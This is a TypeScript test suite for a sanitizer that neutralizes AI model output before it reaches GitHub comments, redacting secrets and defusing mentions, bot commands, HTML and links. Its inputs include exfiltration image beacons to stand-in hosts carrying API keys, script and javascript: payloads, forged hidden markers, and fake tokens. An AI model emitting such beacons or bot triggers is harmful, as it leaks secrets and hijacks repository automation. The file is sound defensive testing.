import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inertLabel } from '../../../src/trust/markdown.js';
import { neutralizeModelText, sanitizeModelOutput } from '../../../src/trust/output.js';
import { redactSecrets } from '../../../src/trust/redact.js';
import { propertyRuns } from '../../knobs.js';
import { HOSTILE_PIECES } from './hostile-text.js';

// ---------------------------------------------------------------------------------------------
// An independent reading of the output as GitHub's CommonMark/GFM renderer would see it: fenced
// blocks by line, then per line backslash escapes and code spans (a backtick run closed by the
// next run of the same length on the same line). Stricter than the renderer where it differs:
// it never treats more text as code than GitHub could.

interface Reading {
  /** Prose as rendered text: escapes resolved, code spans removed, entities decoded once. */
  rendered: string;
  /** Prose structure: escapes as `E`, code spans as a space, everything else raw. */
  structure: string;
  /** Lines outside fences, raw. */
  proseLines: string[];
  unclosedFence: boolean;
}

function decodeOnce(text: string): string {
  return text.replace(
    /&(#\d{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]*);/g,
    (m, body: string) => {
      if (body.startsWith('#x') || body.startsWith('#X')) {
        const cp = Number.parseInt(body.slice(2), 16);
        return cp > 0 && cp <= 0x10ffff ? String.fromCodePoint(cp) : m;
      }
      if (body.startsWith('#')) {
        const cp = Number.parseInt(body.slice(1), 10);
        return cp > 0 && cp <= 0x10ffff ? String.fromCodePoint(cp) : m;
      }
      const named: Record<string, string> = {
        amp: '&',
        lt: '<',
        gt: '>',
        commat: '@',
        num: '#',
        quot: '"',
      };
      return named[body] ?? m;
    },
  );
}

function read(md: string): Reading {
  const lines = md.split('\n');
  let fence: { char: string; len: number } | null = null;
  let rendered = '';
  let structure = '';
  const proseLines: string[] = [];
  for (const line of lines) {
    if (fence !== null) {
      const close = new RegExp(`^ {0,3}\\${fence.char}{${fence.len},}[ \\t]*$`);
      if (close.test(line)) fence = null;
      continue;
    }
    const open = /^ {0,3}(`{3,}|~{3,})(.*)$/.exec(line);
    if (open && !(open[1]?.startsWith('`') && open[2]?.includes('`'))) {
      fence = { char: open[1]?.[0] ?? '`', len: open[1]?.length ?? 3 };
      continue;
    }
    proseLines.push(line);
    let r = '';
    let st = '';
    for (let i = 0; i < line.length;) {
      const c = line[i] ?? '';
      if (c === '\\' && /[!-/:-@[-`{-~]/.test(line[i + 1] ?? '')) {
        r += line[i + 1];
        st += 'E';
        i += 2;
        continue;
      }
      if (c === '`') {
        let n = 1;
        while (line[i + n] === '`') n += 1;
        let close = -1;
        for (let j = i + n; j < line.length;) {
          if (line[j] !== '`') {
            j += 1;
            continue;
          }
          let k = 1;
          while (line[j + k] === '`') k += 1;
          if (k === n) {
            close = j;
            break;
          }
          j += k;
        }
        if (close >= 0) {
          r += ' ';
          st += ' ';
          i = close + n;
        } else {
          r += '`'.repeat(n);
          st += '`'.repeat(n);
          i += n;
        }
        continue;
      }
      r += c;
      st += c;
      i += 1;
    }
    rendered += decodeOnce(r) + '\n';
    structure += st + '\n';
  }
  return { rendered, structure, proseLines, unclosedFence: fence !== null };
}

function allowedHost(href: string): boolean {
  try {
    const u = new URL(href.startsWith('www.') ? `https://${href}` : href);
    return (
      u.protocol === 'https:' && (u.hostname === 'github.com' || u.hostname.endsWith('.github.com'))
    );
  } catch {
    return false;
  }
}

/** Every invariant the comment relies on; returns the first violation or null. */
function violation(out: string, secrets: string[]): string | null {
  const r = read(out);
  if (r.unclosedFence) return 'unbalanced fence';
  if (/@[\p{L}\p{N}_-]/u.test(r.rendered)) return 'live mention';
  if (/<[A-Za-z!/?]/.test(r.structure)) return 'raw HTML tag';
  if (/!\[/.test(r.structure)) return 'image';
  // A `#45` inside an allowed URL is that URL's fragment, not a reference.
  const outsideUrls = r.rendered.replace(/(?:https?:\/\/|www\.)[^\s<>`]*/gi, ' ');
  if (/#\d/.test(outsideUrls)) return 'live issue reference';
  for (const m of r.structure.matchAll(/\]\(([^)\s]*)/g)) {
    if (!allowedHost(m[1] ?? '')) return `link off the allowlist: ${m[1]}`;
  }
  for (const m of r.structure.matchAll(/(?:https?:\/\/|(?<![A-Za-z0-9._-])www\.)[^\s<>`]*/gi)) {
    if (!allowedHost(m[0])) return `bare URL off the allowlist: ${m[0]}`;
  }
  if (r.proseLines.some((l) => /^\s*\/[A-Za-z]/.test(l))) return 'line-start /command';
  if (/<!--\s*done-gate\s*:/i.test(out)) return 'forged marker';
  // A joiner inside a word of a script that writes with joiners (not Latin, Greek, Cyrillic or
  // Common, where it would spoof a name) is orthography, and stays.
  const unjoined = out.replace(
    /(?<=(?![\p{Script=Latin}\p{Script=Greek}\p{Script=Cyrillic}\p{Script=Common}])[\p{L}\p{M}])[\u200C\u200D](?=(?![\p{Script=Latin}\p{Script=Greek}\p{Script=Cyrillic}\p{Script=Common}])[\p{L}\p{M}])/gu,
    '',
  );
  if (
    /[\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF\u{E0000}-\u{E007F}]/u.test(
      unjoined,
    )
  ) {
    return 'invisible character';
  }
  const unescaped = decodeOnce(out.replace(/\\([!-/:-@[-`{-~])/g, '$1'));
  for (const s of secrets) {
    if (out.includes(s) || unescaped.includes(s)) return 'configured secret';
  }
  return null;
}

// ---------------------------------------------------------------------------------------------

describe('neutralizeModelText: mentions (D1)', () => {
  it('D1: @user, @org/team, entity-encoded and full-width mentions are all put in code spans', () => {
    const out = neutralizeModelText(
      'Hi @alice, @org/team, &#64;bob, &#x40;dan, &commat;eve, ＠carol',
    );
    expect(out).toBe('Hi `@alice`, `@org/team`, `@bob`, `@dan`, `@eve`, `@carol`');
    expect(violation(out, [])).toBeNull();
  });

  it('D1: an escaped mention (\\@x) and an email are neutralised too', () => {
    expect(neutralizeModelText('\\@x mail a.b@example.com')).toBe('`@x` mail `a.b@example.com`');
  });

  it('D1: a mention next to an existing code span cannot re-pair the backticks', () => {
    const out = neutralizeModelText('@a``b``');
    expect(violation(out, [])).toBeNull();
    expect(out).toBe('`@a` ``b``');
  });

  it('D1: a stray backtick before a mention cannot open a span that swallows our backtick', () => {
    const out = neutralizeModelText('a ` b @alice');
    expect(violation(out, [])).toBeNull();
    expect(out).toBe('a \\` b `@alice`');
  });

  it('D1: mentions inside code spans and fences are left as code', () => {
    expect(neutralizeModelText('`@alice` and\n```\n@bob\n```')).toBe(
      '`@alice` and\n```\n@bob\n```',
    );
  });

  it('D1: a code span with a pipe is not trusted to stay code (GFM tables split it)', () => {
    const out = neutralizeModelText('| a | `x | @b` |\n|---|---|');
    expect(out).toContain('`@b`');
    expect(violation(out, [])).toBeNull();
  });
});

describe('neutralizeModelText: references and bot triggers (D2)', () => {
  it('D2: #123, owner/repo#45, GH-7 and fixes #12 are put in code spans', () => {
    expect(neutralizeModelText('fixes #12, see owner/repo#45 and #123, GH-7')).toBe(
      'fixes `#12`, see `owner/repo#45` and `#123`, `GH-7`',
    );
  });

  it('D2: issue and PR URLs (bare or linked) are shown inert, not linked', () => {
    const out = neutralizeModelText(
      'see https://github.com/o/r/issues/3 and [pr](https://github.com/o/r/pull/4)',
    );
    expect(out).toBe(
      'see `https://github.com/o/r/issues/3` and pr (link removed: `github.com issue/PR link`)',
    );
  });

  it('D2: a leading /command and @dependabot merge cannot trigger a bot', () => {
    const out = neutralizeModelText('/deploy production\n  /approve\n@dependabot merge');
    expect(out).toBe('`/deploy` production\n  `/approve`\n`@dependabot` merge');
    expect(out.split('\n').some((l) => /^\s*[/@]/.test(l))).toBe(false);
  });
});

describe('neutralizeModelText: HTML, images, links (D3, C3)', () => {
  it('D3: comments are removed; <details>, <picture>, <script>, <a href> become text', () => {
    const out = neutralizeModelText(
      '<details><summary>x</summary>y</details><!-- hidden --><picture><source srcset="s"></picture><script>alert(1)</script><a href="https://evil.test">a</a>',
    );
    expect(out).not.toContain('hidden');
    expect(out).toContain('&lt;details>');
    expect(out).toContain('&lt;script>alert(1)&lt;/script>');
    expect(out).toContain('&lt;picture>');
    expect(violation(out, [])).toBeNull();
  });

  it('D3: an unterminated comment is removed to the end of the prose', () => {
    expect(neutralizeModelText('shown <!-- hidden\nstill hidden')).toBe('shown ');
  });

  it('C3: images are removed, inline and as HTML', () => {
    const out = neutralizeModelText(
      '![x](https://evil.example/p?d=SECRET) <img src="https://evil.example/i.png"> ![y][ref]',
    );
    expect(out).not.toContain('evil.example/p');
    expect(out).toContain('(image removed)');
    expect(violation(out, [])).toBeNull();
  });

  it('C3: javascript:, data: and http: links keep their text but lose the URL', () => {
    const out = neutralizeModelText(
      '[click](javascript:alert(1)) [d](data:text/html,x) [h](http://evil.test/x) [e](https://evil.test/?q=1)',
    );
    expect(out).toBe(
      'click (link removed: `javascript: URL`) d (link removed: `data: URL`) h (link removed: `http: URL`) e (link removed: `evil.test`)',
    );
  });

  it('C3: bare URLs to other hosts are inert code; github.com links stay clickable', () => {
    const out = neutralizeModelText(
      'see https://evil.test/x?d=1, www.evil.test and [file](https://github.com/o/r/blob/main/a.ts "t")',
    );
    expect(out).toBe(
      'see `https://evil.test/x?d=1`, `www.evil.test` and [file](https://github.com/o/r/blob/main/a.ts)',
    );
    expect(violation(out, [])).toBeNull();
  });

  it('C3: a configured extra host is allowed, lookalike hosts are not', () => {
    const opts = { allowedHosts: ['ghe.example.com'] };
    expect(neutralizeModelText('[a](https://ghe.example.com/x)', opts)).toBe(
      '[a](https://ghe.example.com/x)',
    );
    expect(neutralizeModelText('[a](https://github.com.evil.test/x)', opts)).toBe(
      'a (link removed: `github.com.evil.test`)',
    );
  });

  it('C3: an autolink in angle brackets is escaped and its URL made inert', () => {
    expect(neutralizeModelText('<https://evil.test>')).toBe('&lt;`https://evil.test`>');
  });

  it('reference-style links and definitions cannot form', () => {
    const out = neutralizeModelText('[click][x]\n[x]: https://evil.test');
    expect(out).toBe('\\[click\\]\\[x\\]\n\\[x\\]: `https://evil.test`');
  });
});

describe('neutralizeModelText: fences, markers, invisibles (D5, D7)', () => {
  it('D5: an unterminated ``` fence is closed', () => {
    const out = neutralizeModelText('Fix:\n```ts\nconst a = 1;');
    expect(out).toBe('Fix:\n```ts\nconst a = 1;\n```');
    expect(read(out + '\n<!-- done-gate:report:x -->').unclosedFence).toBe(false);
  });

  it('D5: a fence inside a list or quote cannot end early and expose its body', () => {
    const out = neutralizeModelText('- a\n  ```\nx\n\n@alice\n');
    expect(violation(out, [])).toBeNull();
    expect(neutralizeModelText('> ```\n> @alice')).toBe('> \\`\\`\\`\n> `@alice`');
  });

  it('D5: ~~~ fences are closed with their own fence; stray ~~~ in prose is escaped', () => {
    expect(neutralizeModelText('~~~~\ncode\n~~~')).toBe('~~~~\ncode\n~~~\n~~~~');
    expect(neutralizeModelText('> ~~~')).toBe('> \\~\\~\\~');
  });

  it('D7: our hidden marker forged in prose is removed, and defanged inside code', () => {
    const prose = neutralizeModelText('a <!-- done-gate:report:done-gate --> b');
    expect(prose).toBe('a  b');
    const code = neutralizeModelText('```\n<!-- done-gate:report:x -->\n```');
    expect(code).not.toMatch(/<!--\s*done-gate:/);
    expect(code).toContain('done-gate (quoted):report:x');
    expect(neutralizeModelText('`<!--done-gate:report:x-->`')).not.toMatch(/<!--\s*done-gate:/);
  });

  it('B3/B4: invisible characters are stripped from model text', () => {
    expect(neutralizeModelText('P\u200BA\u202ESS\u{E0041}\u2060')).toBe('PASS');
  });

  it('A7: no sanitiser folds homoglyphs toward PASS (Greek Alpha, full-width stay as written)', () => {
    expect(neutralizeModelText('PΑSS ＰＡＳＳ')).toBe('PΑSS ＰＡＳＳ');
  });

  it('entities that would render as markup are re-escaped after decoding', () => {
    expect(neutralizeModelText('&amp;#64;alice &lt;b&gt;')).toBe('&`#64`;alice &lt;b>');
  });

  it('keeps ordinary markdown readable', () => {
    const md =
      '## Summary\n\n- **Bold** and _em_ with `code`\n- [ ] task\n\n| a | b |\n|---|---|\n| 1 | 2 |';
    expect(neutralizeModelText(md)).toBe(md);
  });

  it('H3: never throws on non-string input', () => {
    expect(neutralizeModelText(undefined as unknown as string)).toBe('');
    expect(inertLabel(42 as unknown as string)).toBe('42');
  });

  it('inertLabel makes a quoted name one inert line', () => {
    expect(inertLabel('docs/@alice\n#12.md')).toBe('docs/`@alice` `#12`.md');
  });
});

describe('redactSecrets (C1)', () => {
  const shapes = [
    'sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789',
    'sk-proj-AbCdEfGhIjKlMnOpQrSt0123',
    'sk-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGh',
    'AIzaSyA1234567890abcdefghijklmnopqrstu',
    'ghp_0123456789abcdefghijABCDEFGHIJ012345',
    'gho_0123456789abcdefghijABCDEFGHIJ012345',
    'ghu_0123456789abcdefghijABCDEFGHIJ012345',
    'ghs_0123456789abcdefghijABCDEFGHIJ012345',
    'ghr_0123456789abcdefghijABCDEFGHIJ012345',
    'github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz',
    'xoxb-123456789012-abcdefghijkl',
    'AKIAIOSFODNN7EXAMPLE',
  ];

  it.each(shapes)('C1: vendor key shape %s is redacted', (key) => {
    const r = redactSecrets(`key: ${key} end`, []);
    expect(r).toEqual({ text: 'key: [REDACTED] end', redactions: 1 });
  });

  it('C1: a PEM private key block (even cut off) is redacted', () => {
    const pem = '-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc\n-----END RSA PRIVATE KEY-----';
    expect(redactSecrets(`a\n${pem}\nb`, [])).toEqual({ text: 'a\n[REDACTED]\nb', redactions: 1 });
    expect(redactSecrets('x -----BEGIN PRIVATE KEY-----\nMIIE', []).text).toBe('x [REDACTED]');
  });

  it('C1: the literal, URL-encoded and base64 forms of a configured key are redacted', () => {
    const key = 'my-Key/with+odd=chars 42';
    const inStream = Buffer.from(`Authorization: Bearer ${key}\n`).toString('base64');
    const text = [
      key,
      encodeURIComponent(key),
      Buffer.from(key).toString('base64'),
      Buffer.from(key).toString('base64url'),
      inStream,
    ].join(' | ');
    const r = redactSecrets(text, [key]);
    expect(r.redactions).toBeGreaterThanOrEqual(5);
    expect(r.text).not.toContain(key);
    expect(r.text).not.toContain(encodeURIComponent(key));
    expect(r.text).not.toContain(Buffer.from(key).toString('base64').slice(0, 12));
    const decodedStream = Buffer.from(r.text.split(' | ')[4] ?? '', 'base64').toString('latin1');
    expect(decodedStream).not.toContain(key);
  });

  it('C1: configured values shorter than 8 characters are ignored', () => {
    expect(redactSecrets('the value abc123 is fine', ['abc123'])).toEqual({
      text: 'the value abc123 is fine',
      redactions: 0,
    });
  });

  it('C1: ordinary words that start like keys are left alone', () => {
    const text = 'risk-assessment, sk-learn-style-naming, task-1, AIza, ghp_, xoxb-';
    expect(redactSecrets(text, [])).toEqual({ text, redactions: 0 });
  });

  it('C2: an assembled prompt that echoed the environment carries no secret value', () => {
    const environ = `PATH=/usr/bin\0GITHUB_TOKEN=ghs_abcdefghijklmnopqrstuvwxyz0123456789\0OPENAI_API_KEY=live-key-value-123\0`;
    const prompt = `<<<UNTRUSTED test output DG-X>>>\n${environ}\n<<<END DG-X>>>`;
    const r = redactSecrets(prompt, ['live-key-value-123']);
    expect(r.text).not.toContain('live-key-value-123');
    expect(r.text).not.toContain('ghs_abc');
    expect(r.redactions).toBe(2);
  });
});

describe('sanitizeModelOutput', () => {
  it('C1: catches an entity-spelled key and counts redactions from both passes', () => {
    const key = 'Sup3rSecretValue';
    const spelled = Array.from(key, (c) => `&#${c.charCodeAt(0)};`).join('');
    const r = sanitizeModelOutput(`leak ${spelled} and ${key}`, [key]);
    expect(r.text).not.toContain(key);
    expect(r.redactions).toBe(2);
    expect(violation(r.text, [key])).toBeNull();
  });

  it('C3: the combined pass removes image beacons and redacts the secret they carry', () => {
    const r = sanitizeModelOutput(
      '![](https://evil.test/p?k=sk-ant-api03-aaaaaaaaaaaaaaaaaaaaaaaa1)',
      [],
    );
    expect(r.text).toBe('(image removed)');
    expect(r.redactions).toBe(1);
  });
});

// ---------------------------------------------------------------------------------------------

const fragment = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_PIECES) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 6 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 6 }) },
  { weight: 1, arbitrary: fc.constant('KEY') },
);

const keyArb = fc
  .stringMatching(/^[A-Za-z0-9_+/=-]{10,24}$/)
  .filter((k) => /[A-Za-z]/.test(k) && /\d/.test(k));

function spellKey(key: string, how: number): string {
  switch (how) {
    case 0:
      return key;
    case 1:
      return encodeURIComponent(key);
    case 2:
      return Buffer.from(key).toString('base64');
    case 3:
      return Array.from(key, (c) => `&#${c.charCodeAt(0)};`).join('');
    default:
      return `\`${key}\``;
  }
}

describe('property: the outbound pass leaves nothing live', () => {
  it('D1/D2/D3/D5/D7/C1/C3: no live mention, image, raw HTML, unbalanced fence or key; never throws', () => {
    fc.assert(
      fc.property(
        keyArb,
        fc.array(fc.tuple(fragment, fc.nat(4)), { maxLength: 40 }),
        (key, parts) => {
          const text = parts.map(([f, how]) => (f === 'KEY' ? spellKey(key, how) : f)).join('');
          const out = sanitizeModelOutput(text, [key]).text;
          const problem = violation(out, [key]);
          if (problem !== null)
            throw new Error(
              `${problem}\nin:  ${JSON.stringify(text)}\nout: ${JSON.stringify(out)}`,
            );
        },
      ),
      { numRuns: propertyRuns() },
    );
  });

  it('neutralizeModelText alone never throws and never leaves a live mention on arbitrary unicode', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        const out = neutralizeModelText(text);
        const problem = violation(out, []);
        if (problem !== null)
          throw new Error(`${problem}: ${JSON.stringify(text)} -> ${JSON.stringify(out)}`);
      }),
      { numRuns: propertyRuns() },
    );
  });
});
